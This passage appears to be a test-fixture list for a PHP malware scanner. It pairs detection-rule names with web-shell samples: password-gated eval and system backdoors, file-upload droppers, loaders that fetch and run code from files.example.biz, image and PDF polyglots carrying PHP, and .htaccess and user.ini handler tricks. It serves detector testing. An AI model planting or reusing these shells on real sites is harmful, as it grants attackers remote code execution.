        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        embedded(
            "<?php\n$sn = \"wp-options.php\";\n$title = 'Media';\n$desc = 'Upload media files';\nfunction up($sn) {\n    if (isset($_FILES['u'])) {\n        if (move_uploaded_file($_FILES[\"u\"][\"tmp_name\"], $sn)) { echo \"<a href='$sn'>$sn</a>\"; }\n    }\n}\nup($sn);\n"
        ),
        True,
    ),  # d/v02.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php session_start();\n$pw = \"c4ca4238a0b923820dcc509a6f75849b\";\nif (isset($_POST['pass']) && $pw == md5($_POST['pass'])) { $_SESSION['ok'] = 1; }\nif (@$_SESSION['ok']) { echo '<pre>'; echo shell_exec($_POST['c']); }\n"
        ),
        True,
    ),  # d/v03.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php session_start();\n$pw = \"c4ca4238a0b923820dcc509a6f75849b\";\nif (isset($_POST['pass']) && $pw == md5($_POST['pass'])) { $_SESSION['ok'] = 1; }\nif (@$_SESSION['ok']) { echo '<pre>'; echo shell_exec($_POST['c']); }\n"
        ),
        True,
    ),  # d/v03.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php session_start();\n$pw = \"c4ca4238a0b923820dcc509a6f75849b\";\nif (isset($_POST['pass']) && $pw == md5($_POST['pass'])) { $_SESSION['ok'] = 1; }\nif (@$_SESSION['ok']) { echo '<pre>'; echo shell_exec($_POST['c']); }\n"
        ),
        True,
    ),  # d/v03.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php file_put_contents(basename($_GET['u']), file_get_contents($_GET['u'])); echo 'ok';"),
        True,
    ),  # d/v05.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php file_put_contents(basename($_GET['u']), file_get_contents($_GET['u'])); echo 'ok';"),
        True,
    ),  # d/v05.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php file_put_contents(basename($_GET['u']), file_get_contents($_GET['u'])); echo 'ok';"),
        True,
    ),  # d/v05.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $h = fopen('http://files.example.biz/y.txt', 'r'); $c = stream_get_contents($h); fclose($h); file_put_contents('../index.php', $c);"
        ),
        True,
    ),  # d/v07.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $h = fopen('http://files.example.biz/y.txt', 'r'); $c = stream_get_contents($h); fclose($h); file_put_contents('../index.php', $c);"
        ),
        True,
    ),  # d/v07.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $h = fopen('http://files.example.biz/y.txt', 'r'); $c = stream_get_contents($h); fclose($h); file_put_contents('../index.php', $c);"
        ),
        True,
    ),  # d/v07.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$d = @file_get_contents('https://files.example.biz/p.txt');\n$f = dirname(__FILE__) . '/readme.txt';\n@file_put_contents($f, $d);\n@include $f;\n"
        ),
        True,
    ),  # d/v08.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$d = @file_get_contents('https://files.example.biz/p.txt');\n$f = dirname(__FILE__) . '/readme.txt';\n@file_put_contents($f, $d);\n@include $f;\n"
        ),
        True,
    ),  # d/v08.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$d = @file_get_contents('https://files.example.biz/p.txt');\n$f = dirname(__FILE__) . '/readme.txt';\n@file_put_contents($f, $d);\n@include $f;\n"
        ),
        True,
    ),  # d/v08.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (md5($_GET['pass']) != 'c4ca4238a0b923820dcc509a6f75849b') { header('HTTP/1.1 404 Not Found'); die('404'); }\n$x = $_POST['x'];\n$r = base64_decode($x);\neval($r);\n"
        ),
        True,
    ),  # d/v09.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (md5($_GET['pass']) != 'c4ca4238a0b923820dcc509a6f75849b') { header('HTTP/1.1 404 Not Found'); die('404'); }\n$x = $_POST['x'];\n$r = base64_decode($x);\neval($r);\n"
        ),
        True,
    ),  # d/v09.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (md5($_GET['pass']) != 'c4ca4238a0b923820dcc509a6f75849b') { header('HTTP/1.1 404 Not Found'); die('404'); }\n$x = $_POST['x'];\n$r = base64_decode($x);\neval($r);\n"
        ),
        True,
    ),  # d/v09.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php if (substr(sha1($_SERVER['HTTP_X_KEY']), 0, 10) == 'abcdef1234') { echo system($_SERVER['HTTP_X_C']); }"
        ),
        True,
    ),  # d/v10.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php if (substr(sha1($_SERVER['HTTP_X_KEY']), 0, 10) == 'abcdef1234') { echo system($_SERVER['HTTP_X_C']); }"
        ),
        True,
    ),  # d/v10.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php if (substr(sha1($_SERVER['HTTP_X_KEY']), 0, 10) == 'abcdef1234') { echo system($_SERVER['HTTP_X_C']); }"
        ),
        True,
    ),  # d/v10.php embedded
    (
        "SPAMGEAR_POLYGLOT_ImageWithPhp",
        b"GIF89a\x01\x00\x01\x00<?PHP SYSTEM($_GET['c']); ?>",
        True,
    ),  # d/v11.gif
    (
        "SPAMGEAR_POLYGLOT_ImageWithPhp",
        b"\x00\x00\x01\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00<?php @eval($_COOKIE['e']); ?>",
        True,
    ),  # d/v12.ico
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType application/x-httpd-php .jpg\r\n"),
        True,
    ),  # d/v13.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType application/x-httpd-php .jpg\r\n"),
        True,
    ),  # d/v13.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('AddHandler "application/x-httpd-php" .gif\n'),
        True,
    ),  # d/v14.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('AddHandler "application/x-httpd-php" .gif\n'),
        True,
    ),  # d/v14.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<FilesMatch "\\.(jpg)$">\r\n SetHandler application/x-httpd-php\r\n</FilesMatch>\r\n'),
        True,
    ),  # d/v15.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('<FilesMatch "\\.(jpg)$">\r\n SetHandler application/x-httpd-php\r\n</FilesMatch>\r\n'),
        True,
    ),  # d/v15.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain("auto_prepend_file='/home/u/public_html/wp-content/uploads/wpforms/cache/index.html'\n"),
        True,
    ),  # d/v16.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file='/home/u/public_html/wp-content/uploads/wpforms/cache/index.html'\n"),
        True,
    ),  # d/v16.user.ini padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("addtype application/x-httpd-php .jpg\n"),
        True,
    ),  # d/v17.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("addtype application/x-httpd-php .jpg\n"),
        True,
    ),  # d/v17.htaccess padded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php if (isset($_FILES['f'])) { $n = $_FILES['f']['name']; $t = $_FILES['f']['tmp_name']; move_uploaded_file($t, \"./$n\"); echo \"ok\"; }"
        ),
        True,
    ),  # d/v18.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php if (isset($_FILES['f'])) { $n = $_FILES['f']['name']; $t = $_FILES['f']['tmp_name']; move_uploaded_file($t, \"./$n\"); echo \"ok\"; }"
        ),
        True,
    ),  # d/v18.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            "<form enctype='multipart/form-data' method='post'><input type='file' name='up'><input type='submit' value='Send'></form>\n<?php if (is_uploaded_file(@$_FILES['up']['tmp_name'])) { @rename($_FILES['up']['tmp_name'], $_FILES['up']['name']); echo 'sent'; } ?>"
        ),
        True,
    ),  # d/v19.php
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<form enctype='multipart/form-data' method='post'><input type='file' name='up'><input type='submit' value='Send'></form>\n<?php if (is_uploaded_file(@$_FILES['up']['tmp_name'])) { @rename($_FILES['up']['tmp_name'], $_FILES['up']['name']); echo 'sent'; } ?>"
        ),
        True,
    ),  # d/v19.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<form enctype='multipart/form-data' method='post'><input type='file' name='up'><input type='submit' value='Send'></form>\n<?php if (is_uploaded_file(@$_FILES['up']['tmp_name'])) { @rename($_FILES['up']['tmp_name'], $_FILES['up']['name']); echo 'sent'; } ?>"
        ),
        True,
    ),  # d/v19.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $u = $_POST['url']; $f = $_POST['file']; copy($u, $f); echo file_exists($f) ? 'OK' : 'FAIL';"
        ),
        True,
    ),  # d/v20.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $u = $_POST['url']; $f = $_POST['file']; copy($u, $f); echo file_exists($f) ? 'OK' : 'FAIL';"
        ),
        True,
    ),  # d/v20.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $u = $_POST['url']; $f = $_POST['file']; copy($u, $f); echo file_exists($f) ? 'OK' : 'FAIL';"
        ),
        True,
    ),  # d/v20.php embedded
    (
        "SPAMGEAR_TINY_EvalOfFileContents",
        plain("<?php eval(file_get_contents('http://files.example.biz/e.txt'));"),
        True,
    ),  # d/v21.php
    (
        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
        padded("<?php eval(file_get_contents('http://files.example.biz/e.txt'));"),
        True,
    ),  # d/v21.php padded
    (
        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
        embedded("<?php eval(file_get_contents('http://files.example.biz/e.txt'));"),
        True,
    ),  # d/v21.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, \"http://files.example.biz/c.txt\");\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$x = curl_exec($ch);\ncurl_close($ch);\neval('?>' . $x);\n"
        ),
        True,
    ),  # d/v22.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, \"http://files.example.biz/c.txt\");\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$x = curl_exec($ch);\ncurl_close($ch);\neval('?>' . $x);\n"
        ),
        True,
    ),  # d/v22.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, \"http://files.example.biz/c.txt\");\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$x = curl_exec($ch);\ncurl_close($ch);\neval('?>' . $x);\n"
        ),
        True,
    ),  # d/v22.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php $f = 'tmp_' . rand() . '.php'; $fp = fopen($f, 'w'); fwrite($fp, $_POST['code']); fclose($fp); include($f); unlink($f);"
        ),
        True,
    ),  # d/v23.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php $f = 'tmp_' . rand() . '.php'; $fp = fopen($f, 'w'); fwrite($fp, $_POST['code']); fclose($fp); include($f); unlink($f);"
        ),
        True,
    ),  # d/v23.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php $f = 'tmp_' . rand() . '.php'; $fp = fopen($f, 'w'); fwrite($fp, $_POST['code']); fclose($fp); include($f); unlink($f);"
        ),
        True,
    ),  # d/v23.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (isset($_GET['debug']) && $_GET['debug'] == 'a1b2c3') { @eval(stripslashes($_POST['d'])); }"
        ),
        True,
    ),  # d/v24.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (isset($_GET['debug']) && $_GET['debug'] == 'a1b2c3') { @eval(stripslashes($_POST['d'])); }"
        ),
        True,
    ),  # d/v24.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (isset($_GET['debug']) && $_GET['debug'] == 'a1b2c3') { @eval(stripslashes($_POST['d'])); }"
        ),
        True,
    ),  # d/v24.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php\n$user = $_POST['u'];\n$pass = $_POST['p'];\nif (md5($user) == 'c4ca4238a0b923820dcc509a6f75849b' && md5($pass) == 'c4ca4238a0b923820dcc509a6f75849b') {\n    $f = $_FILES['x'];\n    move_uploaded_file($f['tmp_name'], $f['name']);\n}\n"
        ),
        True,
    ),  # d/v25.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php\n$user = $_POST['u'];\n$pass = $_POST['p'];\nif (md5($user) == 'c4ca4238a0b923820dcc509a6f75849b' && md5($pass) == 'c4ca4238a0b923820dcc509a6f75849b') {\n    $f = $_FILES['x'];\n    move_uploaded_file($f['tmp_name'], $f['name']);\n}\n"
        ),
        True,
    ),  # d/v25.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain("<?php if ($_SERVER['REMOTE_ADDR'] == '203.0.113.5') { eval(base64_decode($_POST['p'])); }"),
        True,
    ),  # d/v26.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded("<?php if ($_SERVER['REMOTE_ADDR'] == '203.0.113.5') { eval(base64_decode($_POST['p'])); }"),
        True,
    ),  # d/v26.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded("<?php if ($_SERVER['REMOTE_ADDR'] == '203.0.113.5') { eval(base64_decode($_POST['p'])); }"),
        True,
    ),  # d/v26.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (strstr($_SERVER['HTTP_REFERER'], 'x-panel.example')) { assert(base64_decode($_REQUEST['a'])); }"
        ),
        True,
    ),  # d/v27.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (strstr($_SERVER['HTTP_REFERER'], 'x-panel.example')) { assert(base64_decode($_REQUEST['a'])); }"
        ),
        True,
    ),  # d/v27.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (strstr($_SERVER['HTTP_REFERER'], 'x-panel.example')) { assert(base64_decode($_REQUEST['a'])); }"
        ),
        True,
    ),  # d/v27.php embedded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType text/html .php\nAddHandler application/x-httpd-php .png .bmp\n"),
        True,
    ),  # d/v28.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType text/html .php\nAddHandler application/x-httpd-php .png .bmp\n"),
        True,
    ),  # d/v28.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_append_file = "/home/u/tmp/analytics.js"\n'),
        True,
    ),  # d/v29.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_append_file = "/home/u/tmp/analytics.js"\n'),
        True,
    ),  # d/v29.user.ini padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php $s = base64_decode($_POST['s']); $fn = tempnam(sys_get_temp_dir(), 'php'); file_put_contents($fn, '<?php ' . $s); require $fn;"
        ),
        True,
    ),  # e/i01.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php $s = base64_decode($_POST['s']); $fn = tempnam(sys_get_temp_dir(), 'php'); file_put_contents($fn, '<?php ' . $s); require $fn;"
        ),
        True,
    ),  # e/i01.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php $s = base64_decode($_POST['s']); $fn = tempnam(sys_get_temp_dir(), 'php'); file_put_contents($fn, '<?php ' . $s); require $fn;"
        ),
        True,
    ),  # e/i01.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain("<?php file_put_contents('.htaccess.php', str_rot13($_POST['x'])); include('.htaccess.php');"),
        True,
    ),  # e/i02.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded("<?php file_put_contents('.htaccess.php', str_rot13($_POST['x'])); include('.htaccess.php');"),
        True,
    ),  # e/i02.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php file_put_contents('.htaccess.php', str_rot13($_POST['x'])); include('.htaccess.php');"
        ),
        True,
    ),  # e/i02.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php $tmp = '/dev/shm/' . md5(1); $fp = fopen($tmp, 'w'); fwrite($fp, hex2bin($_COOKIE['h'])); fclose($fp); include($tmp);"
        ),
        True,
    ),  # e/i03.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php $tmp = '/dev/shm/' . md5(1); $fp = fopen($tmp, 'w'); fwrite($fp, hex2bin($_COOKIE['h'])); fclose($fp); include($tmp);"
        ),
        True,
    ),  # e/i03.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php $tmp = '/dev/shm/' . md5(1); $fp = fopen($tmp, 'w'); fwrite($fp, hex2bin($_COOKIE['h'])); fclose($fp); include($tmp);"
        ),
        True,
    ),  # e/i03.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php if ($_FILES) { foreach ($_FILES as $k => $v) { copy($v['tmp_name'], getcwd() . '/' . $v['name']); } }"
        ),
        True,
    ),  # e/j01.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php if ($_FILES) { foreach ($_FILES as $k => $v) { copy($v['tmp_name'], getcwd() . '/' . $v['name']); } }"
        ),
        True,
    ),  # e/j01.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        plain(
            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_REQUEST['path'] . DIRECTORY_SEPARATOR . $_FILES['f']['name']);"
        ),
        True,
    ),  # e/j03.php
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded(
            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_REQUEST['path'] . DIRECTORY_SEPARATOR . $_FILES['f']['name']);"
        ),
        True,
    ),  # e/j03.php padded
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        embedded(
            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_REQUEST['path'] . DIRECTORY_SEPARATOR . $_FILES['f']['name']);"
        ),
        True,
    ),  # e/j03.php embedded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            "<?php echo '<form method=post enctype=multipart/form-data><input type=file name=file><input type=submit name=up value=Up></form>'; if (isset($_POST[up])) { @copy($_FILES[file][tmp_name], $_FILES[file][name]); echo 'done'; }"
        ),
        True,
    ),  # e/j04.php
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<?php echo '<form method=post enctype=multipart/form-data><input type=file name=file><input type=submit name=up value=Up></form>'; if (isset($_POST[up])) { @copy($_FILES[file][tmp_name], $_FILES[file][name]); echo 'done'; }"
        ),
        True,
    ),  # e/j04.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<?php echo '<form method=post enctype=multipart/form-data><input type=file name=file><input type=submit name=up value=Up></form>'; if (isset($_POST[up])) { @copy($_FILES[file][tmp_name], $_FILES[file][name]); echo 'done'; }"
        ),
        True,
    ),  # e/j04.php embedded
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        plain(
            "<?php if (isset($_FILES['x'])) move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name'] . '.php');"
        ),
        True,
    ),  # e/j05.php
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        padded(
            "<?php if (isset($_FILES['x'])) move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name'] . '.php');"
        ),
        True,
    ),  # e/j05.php padded
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        embedded(
            "<?php if (isset($_FILES['x'])) move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name'] . '.php');"
        ),
        True,
    ),  # e/j05.php embedded
    (
        "SPAMGEAR_POLYGLOT_ImageWithPhp",
        b"GIF89a;\n/* image comment xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx */\n<?php echo shell_exec($_GET['e']); ?>",
        True,
    ),  # e/k01.gif
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("<IfModule mime_module>\n  AddType application/x-httpd-php .jpg\n</IfModule>\n"),
        True,
    ),  # e/k02.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("<IfModule mime_module>\n  AddType application/x-httpd-php .jpg\n</IfModule>\n"),
        True,
    ),  # e/k02.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<Files ~ "\\.(jpg|gif)$">\n    SetHandler application/x-httpd-php\n</Files>\n'),
        True,
    ),  # e/k03.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('<Files ~ "\\.(jpg|gif)$">\n    SetHandler application/x-httpd-php\n</Files>\n'),
        True,
    ),  # e/k03.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddHandler application/x-httpd-php .html .php .jpg\n"),
        True,
    ),  # e/k04.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler application/x-httpd-php .html .php .jpg\n"),
        True,
    ),  # e/k04.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('Action application/x-httpd-php "/php/php-cgi.exe"\nAddType application/x-httpd-php .gif\n'),
        True,
    ),  # e/k05.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            'Action application/x-httpd-php "/php/php-cgi.exe"\nAddType application/x-httpd-php .gif\n'
        ),
        True,
    ),  # e/k05.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('php_value auto_prepend_file "/var/www/html/wp-content/uploads/2022/logo.svg"\n'),
        True,
    ),  # e/k06.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('php_value auto_prepend_file "/var/www/html/wp-content/uploads/2022/logo.svg"\n'),
        True,
    ),  # e/k06.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_prepend_file="/home/x/public_html/wp-content/plugins/akismet/.akismet.cache"\n'),
        True,
    ),  # e/k07.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file="/home/x/public_html/wp-content/plugins/akismet/.akismet.cache"\n'),
        True,
    ),  # e/k07.user.ini padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n<?php system($_REQUEST['c']); ?>",
        True,
    ),  # e/k10.pdf
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<FilesMatch "\\.(png|jpe?g)$">\n  SetHandler proxy:fcgi://127.0.0.1:9000\n</FilesMatch>\n'),
        True,
    ),  # e/k11.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            '<FilesMatch "\\.(png|jpe?g)$">\n  SetHandler proxy:fcgi://127.0.0.1:9000\n</FilesMatch>\n'
        ),
        True,
    ),  # e/k11.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain("[PHP]\nauto_prepend_file = /home/x/public_html/images/banner.webp\n"),
        True,
    ),  # e/k12.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("[PHP]\nauto_prepend_file = /home/x/public_html/images/banner.webp\n"),
        True,
    ),  # e/k12.user.ini padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (hash('md5', $_POST['k']) == 'e10adc3949ba59abbe56e057f20f883e') { eval(stripslashes($_POST['c'])); }"
        ),
        True,
    ),  # e/m01.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (hash('md5', $_POST['k']) == 'e10adc3949ba59abbe56e057f20f883e') { eval(stripslashes($_POST['c'])); }"
        ),
        True,
    ),  # e/m01.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (hash('md5', $_POST['k']) == 'e10adc3949ba59abbe56e057f20f883e') { eval(stripslashes($_POST['c'])); }"
        ),
        True,
    ),  # e/m01.php embedded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        plain(
            "<?php $key = $_COOKIE['key'] ?? null; if ($key && sha1($key) === '7c4a8d09ca3762af61e59520943dc26494f8941b') { $f = base64_decode($_COOKIE['f']); $f($_COOKIE['a']); }"
        ),
        True,
    ),  # e/m02.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $key = $_COOKIE['key'] ?? null; if ($key && sha1($key) === '7c4a8d09ca3762af61e59520943dc26494f8941b') { $f = base64_decode($_COOKIE['f']); $f($_COOKIE['a']); }"
        ),
        True,
    ),  # e/m02.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded(
            "<?php $key = $_COOKIE['key'] ?? null; if ($key && sha1($key) === '7c4a8d09ca3762af61e59520943dc26494f8941b') { $f = base64_decode($_COOKIE['f']); $f($_COOKIE['a']); }"
        ),
        True,
    ),  # e/m02.php embedded
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            "<?php if (md5(getenv('HTTP_X_K')) == 'e10adc3949ba59abbe56e057f20f883e') eval(base64_decode(getenv('HTTP_X_C')));"
        ),
        True,
    ),  # e/m03.php
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php if (md5(getenv('HTTP_X_K')) == 'e10adc3949ba59abbe56e057f20f883e') eval(base64_decode(getenv('HTTP_X_C')));"
        ),
        True,
    ),  # e/m03.php padded
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php if (md5(getenv('HTTP_X_K')) == 'e10adc3949ba59abbe56e057f20f883e') eval(base64_decode(getenv('HTTP_X_C')));"
        ),
        True,
    ),  # e/m03.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if ($_SERVER['HTTP_X_REAL_IP'] == '198.51.100.1' || isset($_COOKIE['dbg'])) { @eval($_REQUEST['e']); }"
        ),
        True,
    ),  # e/m04.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if ($_SERVER['HTTP_X_REAL_IP'] == '198.51.100.1' || isset($_COOKIE['dbg'])) { @eval($_REQUEST['e']); }"
        ),
        True,
    ),  # e/m04.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if ($_SERVER['HTTP_X_REAL_IP'] == '198.51.100.1' || isset($_COOKIE['dbg'])) { @eval($_REQUEST['e']); }"
        ),
        True,
    ),  # e/m04.php embedded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        plain(
            "<?php if (strtolower($_SERVER['HTTP_USER_AGENT']) == 'mozilla/5.0 (x11; bot)') { $c = $_POST['c']; echo `$c`; }"
        ),
        True,
    ),  # e/m05.php
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php if (strtolower($_SERVER['HTTP_USER_AGENT']) == 'mozilla/5.0 (x11; bot)') { $c = $_POST['c']; echo `$c`; }"
        ),
        True,
    ),  # e/m05.php padded
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded(
            "<?php if (strtolower($_SERVER['HTTP_USER_AGENT']) == 'mozilla/5.0 (x11; bot)') { $c = $_POST['c']; echo `$c`; }"
        ),
        True,
    ),  # e/m05.php embedded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
